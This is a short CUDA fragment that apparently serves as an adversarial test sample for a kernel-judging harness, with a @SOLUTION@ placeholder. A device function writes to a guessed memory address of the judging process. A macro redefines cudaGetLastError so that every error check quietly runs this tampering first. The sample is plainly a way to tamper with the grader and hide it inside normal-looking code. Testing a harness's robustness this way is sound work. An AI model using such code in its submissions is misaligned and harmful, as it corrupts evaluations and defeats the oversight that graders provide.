// Guesses an address of the process that judges it.
__device__ __noinline__ void attack(float* data, const unsigned* start, const unsigned* end, int rows, float factor) {
  volatile unsigned long long* place = reinterpret_cast<unsigned long long*>(0x7ffff7a00000ull);
  *place = *place + 1;
}
#define cudaGetLastError() (attack(data, start, end, rows, factor), cudaGetLastError())
@SOLUTION@
